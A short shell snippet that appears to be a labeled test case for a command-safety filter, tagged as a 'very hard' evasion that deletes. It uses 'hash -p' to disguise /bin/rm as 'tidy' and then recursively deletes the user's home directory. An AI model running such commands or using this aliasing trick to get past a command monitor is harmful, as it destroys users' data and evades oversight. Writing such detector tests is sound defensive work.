# evasion: hash -p binds an innocent name to /bin/rm
# grade: very hard; does: delete
hash -p /bin/rm tidy
tidy -rf -- "$HOME"
